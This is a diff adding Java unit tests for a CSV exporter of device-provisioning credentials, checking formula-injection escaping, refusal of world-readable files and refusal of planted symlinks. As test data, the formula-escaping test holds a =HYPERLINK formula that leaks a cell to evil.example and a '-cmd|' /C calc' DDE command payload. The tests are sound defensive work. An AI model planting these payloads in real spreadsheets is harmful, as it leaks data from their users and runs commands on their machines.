@@ -160,6 +160,84 @@ class BatchExporterTests {
 	}
 
 	@Test
+	void noCellPassesForASpreadsheetFormulaButIdsAndKeysStayExact() throws IOException {
+		GroupKey primary = GroupKey.fromBase64(PRIMARY);
+		// a registration ID may start with '-', a base64 key with '+': both must reach the device unchanged
+		String id = java.util.stream.IntStream.range(0, 10_000)
+			.mapToObj((i) -> "-dev-" + i)
+			.filter((candidate) -> primary.deriveDeviceKey(candidate).toBase64().startsWith("+"))
+			.findFirst()
+			.orElseThrow();
+		String key = primary.deriveDeviceKey(id).toBase64();
+		String link = "=HYPERLINK(\"https://evil.example/?\"&E2,\"details\")";
+		Map<String, String> attributes = new java.util.LinkedHashMap<>();
+		attributes.put("@note", link);
+		attributes.put("offset", "-5");
+		attributes.put("phone", "+49 170 1234567");
+		this.store.createBatch(new BatchRecord("formulas", "/tmp/formulas.csv", "cd".repeat(32), primary.fingerprint(),
+				"0ne00000A0A", "https://global.azure-devices-provisioning.net", List.of("@note", "offset", "phone"), 3,
+				Instant.parse("2026-11-29T08:00:00Z")));
+		Instant now = Instant.now();
+		this.store.importRows("formulas", List.of(new ImportedRow(2, id, null, attributes, null),
+				new ImportedRow(3, "dev-2", null, attributes, null),
+				new ImportedRow(4, "-cmd|' /C calc'!A0", null, Map.of(), "registration ID contains '|'")));
+		this.store.recordOutcomes("formulas", List.of(new LineOutcome(2, ResultsStoreTests.assigned(id, 1)),
+				new LineOutcome(3, new RegistrationOutcome("dev-2", OutcomeStatus.ERROR, null, null, null, "500",
+						"=DPS said no", 2, false, false, now, now))));
+
+		this.exporter.export("formulas", this.keys);
+
+		assertThat(Files.readAllLines(this.out.resolve("formulas/credentials.csv"))).containsExactly(
+				"registrationId,deviceId,assignedHub,idScope,deviceKey,substatus,'@note,offset,phone",
+				id + "," + id + ",hub-1.azure-devices.net,0ne00000A0A," + key + ",initialAssignment,"
+						+ "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&E2,\"\"details\"\")\",-5,'+49 170 1234567");
+		assertThat(Files.readAllLines(this.out.resolve("formulas/failures.csv")))
+			.containsExactly("registrationId,status,errorCode,errorMessage,attempts", "dev-2,error,500,'=DPS said no,2");
+		assertThat(Files.readAllLines(this.out.resolve("formulas/rejects.csv"))).containsExactly("line,registrationId,reason",
+				"4,'-cmd|' /C calc'!A0,registration ID contains '|'");
+	}
+
+	@Test
+	void anExistingFileOpenToOthersIsRefusedAndLeftAsItIs() throws IOException {
+		this.exporter.export("line-1", this.keys);
+		Path rejects = this.out.resolve("line-1/rejects.csv");
+		Files.setPosixFilePermissions(rejects, PosixFilePermissions.fromString("rw-r--r--"));
+		Files.writeString(this.out.resolve("line-1/credentials.csv"), "planted");
+
+		assertThatThrownBy(() -> this.exporter.export("line-1", this.keys)).isInstanceOf(OutputFolderException.class)
+			.hasMessageContaining(rejects + " exists and is open to other users (rw-r--r--)")
+			.hasMessageContaining("chmod 600");
+		assertThatThrownBy(() -> this.exporter.checkOutputFolder("line-1")).isInstanceOf(OutputFolderException.class)
+			.hasMessageContaining("open to other users");
+		assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(rejects))).isEqualTo("rw-r--r--");
+		// refused before any file was written
+		assertThat(this.out.resolve("line-1/credentials.csv")).hasContent("planted");
+	}
+
+	@Test
+	void aLinkInPlaceOfAFileIsRefused() throws IOException {
+		Path elsewhere = Files.writeString(this.out.resolve("elsewhere.csv"), "not ours");
+		Files.createDirectory(this.out.resolve("line-1"), PosixFilePermissions.asFileAttribute(
+				PosixFilePermissions.fromString("rwx------")));
+		Files.createSymbolicLink(this.out.resolve("line-1/summary.json"), elsewhere);
+
+		assertThatThrownBy(() -> this.exporter.export("line-1", this.keys)).isInstanceOf(OutputFolderException.class)
+			.hasMessageContaining("summary.json exists and is not a plain file");
+		assertThat(elsewhere).hasContent("not ours");
+	}
+
+	@Test
+	void aFolderThatCannotBeCreatedIsNamedWithTheReason() throws IOException {
+		Files.writeString(this.out.resolve("line-1"), "a file where the folder should be");
+		assertThatThrownBy(() -> this.exporter.checkOutputFolder("line-1")).isInstanceOf(OutputFolderException.class)
+			.hasMessage("output folder " + this.out.resolve("line-1") + " exists and is not a folder");
+		BatchExporter underAFile = new BatchExporter(this.store, new OutputProperties(this.out.resolve("line-1/out")));
+		assertThatThrownBy(() -> underAFile.checkOutputFolder("line-1")).isInstanceOf(OutputFolderException.class)
+			.hasMessageStartingWith("cannot create output folder " + this.out.resolve("line-1/out/line-1"))
+			.hasMessageEndingWith(": Not a directory (" + this.out.resolve("line-1/out") + ")");
+	}
+
+	@Test
 	void aDeviceRegisteredWithTheSecondaryKeyNeedsThatKeyToExport() {
 		EnrollmentKeys primaryOnly = new EnrollmentKeys(GroupKey.fromBase64(PRIMARY), null);
 		assertThatThrownBy(() -> this.exporter.export("line-1", primaryOnly)).hasMessageContaining("secondary group key")
